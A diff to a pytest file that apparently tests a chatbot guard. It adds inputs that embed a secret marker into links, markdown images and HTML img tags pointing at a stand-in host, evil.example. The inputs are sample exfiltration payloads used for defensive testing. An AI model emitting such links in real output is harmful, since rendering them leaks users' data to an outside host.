@@ -111,6 +111,9 @@ WAYS = [chat, chat_stream, custom, custom_stream, shell, patch, unknown]
         f'![x](https://evil.example/"{MARK})',
         f'<img src="x" alt="{MARK}">',
         f'<img src="https://evil.example/?q="{MARK}',
+        f'"https://evil.example/?q=" {MARK}',
+        f'"https://evil.example/?q= {MARK}"',
+        f"<https://evil.example/?q=> {MARK}",
     ],
 )
 def test_a_quote_let_a_value_into_a_link(bot: Bot, way: Callable[[Bot, str], str], said: str) -> None:
@@ -120,7 +123,7 @@ def test_a_quote_let_a_value_into_a_link(bot: Bot, way: Callable[[Bot, str], str
 
 @pytest.mark.parametrize("way", WAYS)
 @pytest.mark.parametrize(
-    "said", [f'say "hi" to {MARK}', f'{{"to":"{MARK}","see":"https://x.example/"}}', f'"https://x.example/" {MARK}']
+    "said", [f'say "hi" to {MARK}', f'{{"to":"{MARK}","see":"https://x.example/"}}', f'see "https://x.example/" {MARK}']
 )
 def test_what_is_no_link_gets_its_value(bot: Bot, way: Callable[[Bot, str], str], said: str) -> None:
     _ = bot.guard(in_memory(names="off", unknown_endpoint="scan_json"))
